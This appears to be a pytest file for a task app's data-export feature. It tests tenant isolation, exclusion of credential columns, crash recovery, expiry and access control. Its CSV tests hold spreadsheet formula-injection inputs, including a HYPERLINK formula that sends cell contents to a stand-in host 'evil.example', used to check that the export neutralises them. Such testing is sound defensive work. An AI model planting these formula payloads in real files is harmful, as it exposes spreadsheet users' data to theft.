"""An export holds everything of the organization and nothing of another one, and survives crashes."""

import asyncio
import csv
import io
import json
import math
import os
import zipfile
from datetime import timedelta
from pathlib import Path
from typing import Any
from uuid import UUID

import pytest
from sqlmodel import col, select

from taskapp.audit.model import AuditEntry
from taskapp.calls import recordings
from taskapp.calls.model import Call
from taskapp.core import clock
from taskapp.core.clock import utc_now
from taskapp.core.config import settings
from taskapp.core.db import database as db
from taskapp.core.errors import Forbidden
from taskapp.core.ids import new_id
from taskapp.core.work import bus, failpoints
from taskapp.export import archive, contents, repository, service, worker
from taskapp.export.model import Export
from taskapp.export.worker import PAUSES, remove_expired, write_exports
from tests.export.reading_back import assert_equals_the_database
from tests.factories.calls import a_call
from tests.factories.contacts import a_contact
from tests.factories.mail import HandClock
from tests.factories.people import Company, a_company, the_neighbour
from tests.factories.tasks import a_done_task, a_task

pytestmark = pytest.mark.anyio


async def _company(name: str) -> Company:
    """An organization with tasks, calls and a recording, each of which holds its name."""
    async with db.transaction() as session:
        company = await a_company(session, name)
        contact = await a_contact(
            session, company.owner, f'{name} Contact, "quoted"\nand a line ü', assigned_to=[company.agent]
        )
        await a_task(session, company.owner, f"{name} task", contact=contact, due_date="2026-04-14")
        await a_done_task(session, company.agent, f"{name} done", contact=contact)
        call = await a_call(session, company.owner, contact=contact, transcription=f"Ana: {name} said = this.")
        path, kind = await recordings.save(company.organization.id, call.id, _audio(name))
        row = await session.get_one(Call, call.id)
        row.recording_path, row.recording_type = path, kind
    return company


async def _audio(name: str) -> Any:
    yield b"ID3" + name.encode() + bytes(500)


async def _exported(company: Company) -> Path:
    async with db.transaction() as session:
        await service.start_export(session, company.owner)
    assert await write_exports() >= 1
    async with db.reading() as session:
        assert (await service.get_export(session, company.owner)).state == "ready"
        file = await service.find_download(session, company.owner)
    assert file
    return file


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=HYPERLINK(A1)", "'=HYPERLINK(A1)"),
        ("+1+cmd", "'+1+cmd"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("'=quoted", "'=quoted"),
        ("a = b", "a = b"),
        ("+15550123", "+15550123"),
        ("-7.5", "-7.5"),
        ("", ""),
    ],
)
def test_no_text_of_a_table_is_a_formula_in_a_spreadsheet(text: str, cell: str) -> None:
    assert list(csv.reader(io.StringIO(archive.csv_lines([[text, -3, None]]).decode()))) == [[cell, "-3", ""]]


async def test_a_formula_in_a_name_is_text_in_the_csv_and_itself_in_the_json(database: db.Database) -> None:
    name = '=HYPERLINK("https://evil.example/?" & A1, "Open")'
    async with db.transaction() as session:
        company = await a_company(session)
        await a_contact(session, company.owner, name)
    with zipfile.ZipFile(await _exported(company)) as zipped:
        [row] = csv.DictReader(io.StringIO(zipped.read("tables/contact.csv").decode(), newline=""))
        [stored] = json.loads(zipped.read("tables/contact.json"))
    assert (row["name"], stored["name"]) == (f"'{name}", name)


async def test_an_export_equals_the_database_and_holds_nothing_of_another_organization(database: db.Database) -> None:
    mine, theirs = await _company("Zqmine"), await _company("Zqtheirs")
    file = await _exported(mine)
    assert await assert_equals_the_database(file, mine.organization.id) > 20
    with zipfile.ZipFile(file) as archive:
        names = archive.namelist()
        everything = b"".join(archive.read(name) for name in names) + "".join(names).encode()
    assert b"Zqmine" in everything
    assert b"Zqtheirs" not in everything
    for other in (theirs.organization.id, *(person.user_id for person in theirs.everybody)):
        assert str(other).encode() not in everything
    assert [name for name in names if name.startswith("recordings/")] == [f"recordings/{await _call_of(mine)}.mp3"]
    assert b"argon2" not in everything


async def _call_of(company: Company) -> UUID:
    async with db.reading() as session:
        query = select(col(Call.id)).where(col(Call.organization_id) == company.organization.id)
        return (await session.scalars(query)).one()


async def test_no_column_of_a_credential_is_exported() -> None:
    exported = {f"{part.name}.{column.name}" for part in contents.parts() for column in part.columns}
    secrets = {
        "user.password_hash", "user.preferences", "login_session.token_hash", "api_token.token_hash",
        "push_subscription.endpoint", "push_subscription.p256dh", "push_subscription.auth",
    }  # fmt: skip
    assert not secrets & exported
    assert {"ai_usage.prompt_tokens", "contact.email", "call.transcription", "webhook_endpoint.url"} <= exported


async def test_two_requests_at_once_are_one_export(database: db.Database) -> None:
    company = await _company("Acme")

    async def start() -> service.ExportRead:
        async with db.transaction() as session:
            return await service.start_export(session, company.admin)

    ids = {read.id for read in await asyncio.gather(*(start() for _ in range(8)))}
    assert len(ids) == 1
    await asyncio.gather(write_exports(), write_exports(), write_exports())
    async with db.reading() as session:
        rows = list(await session.scalars(select(Export)))
        made = list(await session.scalars(select(AuditEntry).where(col(AuditEntry.action) == "export.created")))
    assert [(row.state, row.attempts) for row in rows] == [("done", 1)]
    assert len(made) == 1


@pytest.mark.parametrize("point", ["export.progress", "export.before_rename", "export.before_settle"])
async def test_an_export_that_was_interrupted_is_written_again(
    database: db.Database, monkeypatch: pytest.MonkeyPatch, point: str
) -> None:
    company = await _company("Acme")
    async with db.transaction() as session:
        await service.start_export(session, company.owner)
    monkeypatch.setattr(failpoints, "_active", {point: ("raise", 1.0)})
    await write_exports()
    monkeypatch.setattr(failpoints, "_active", {})
    async with db.reading() as session:
        read = await service.get_export(session, company.owner)
        assert (read.state, read.problem) == ("running", f"FailpointError: failpoint {point}")
        assert await service.find_download(session, company.owner) is None
    later = utc_now() + timedelta(seconds=30)
    clock.set_clock(lambda: later)
    assert await write_exports() == 1
    file = (settings().data_dir / "exports" / str(company.organization.id)).iterdir()
    assert [each.suffix for each in file] == [".zip"]


async def test_an_export_goes_after_a_day_and_a_new_one_replaces_it(database: db.Database) -> None:
    company = await _company("Acme")
    first = await _exported(company)
    second = await _exported(company)
    assert (first.exists(), second.exists()) == (False, True)
    later = utc_now() + timedelta(hours=25)
    clock.set_clock(lambda: later)
    async with db.reading() as session:
        assert (await service.get_export(session, company.owner)).state == "none"
        assert await service.find_download(session, company.owner) is None
    assert await remove_expired() == 1
    assert not second.exists()


async def test_while_another_one_is_written_the_export_before_it_is_there_and_pages_hear_of_both(
    database: db.Database, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(worker, "PROGRESS_EVERY", math.inf)
    company = await _company("Acme")
    heard: list[bus.Change] = []
    stop = bus.subscribe(heard.extend)
    first = await _exported(company)
    # It was started, and it is ready.
    assert [change.kind for change in heard if change.kind == "export"] == ["export"] * 2
    heard.clear()
    async with db.transaction() as session:
        assert (await service.start_export(session, company.admin)).state == "running"
        assert await service.find_download(session, company.owner) == first
    assert [change.kind for change in heard] == ["export"]
    heard.clear()
    async with db.transaction() as session:
        await service.forget_exports(session, company.organization.id)
    stop()
    assert {change.organization_id for change in heard if change.kind == "export"} == {company.organization.id}
    async with db.reading() as session:
        assert (await service.get_export(session, company.owner)).state == "none"
        assert await service.find_download(session, company.owner) is None


async def test_an_export_that_always_fails_says_why_and_can_be_started_again(
    database: db.Database, monkeypatch: pytest.MonkeyPatch
) -> None:
    company = await _company("Acme")
    async with db.transaction() as session:
        first = await service.start_export(session, company.owner)
    monkeypatch.setattr(failpoints, "_active", {"export.progress": ("raise", 1.0)})
    hours = HandClock(utc_now().isoformat())
    for _ in range(len(PAUSES) + 1):
        await write_exports()
        hours.move(hours=1)
    async with db.transaction() as session:
        failed = await service.get_export(session, company.owner)
        assert (failed.state, failed.problem) == ("failed", "FailpointError: failpoint export.progress")
        again = await service.start_export(session, company.owner)
    assert (again.state, again.problem) == ("running", None)
    assert again.id != first.id


async def test_files_of_no_export_are_removed_after_an_hour(database: db.Database) -> None:
    company = await _company("Acme")
    kept = await _exported(company)
    left = [kept.with_name(name) for name in (f"{new_id()}.1.zip", f"{new_id()}.1.part", "note.zip")]
    young = kept.with_name(f"{new_id()}.1.zip")
    for file in (*left, young):
        file.write_bytes(b"PK")
    old = (utc_now() - timedelta(minutes=61)).timestamp()
    for file in (*left, kept):
        os.utime(file, (old, old))
    assert await remove_expired() == len(left)
    assert sorted(kept.parent.iterdir()) == sorted([kept, young])


async def test_only_owners_and_admins_export(database: db.Database) -> None:
    company = await _company("Acme")
    async with db.transaction() as session:
        neighbour = await the_neighbour(session)
    await _exported(company)
    for actor in (company.manager, company.agent, company.viewer):
        for verb in (service.start_export, service.get_export, service.find_download):
            with pytest.raises(Forbidden):
                async with db.transaction() as session:
                    await verb(session, actor)
    async with db.reading() as session:
        assert await service.find_download(session, neighbour.owner) is None


async def test_a_worker_writes_the_progress_of_its_own_attempt_and_deletes_no_export_that_runs(
    database: db.Database,
) -> None:
    async with db.transaction() as session:
        company = await a_company(session)
        org = company.organization.id
        await service.start_export(session, company.owner)
        export = await repository.find_newest(session, org)
        assert export
        await repository.save_progress(session, org, export, done=1, total=9)
        stale = Export(id=export.id, organization_id=org, fence=export.fence + 1)
        await repository.save_progress(session, org, stale, done=5, total=9)
        assert (await service.get_export(session, company.owner)).rows_done == 1
        assert await repository.delete_others(session, org, new_id()) == []
        await service.record_download(session, company.owner)
    async with db.reading() as session:
        acts = set(await session.scalars(select(col(AuditEntry.action))))
    assert acts == {"export.created", "export.downloaded"}
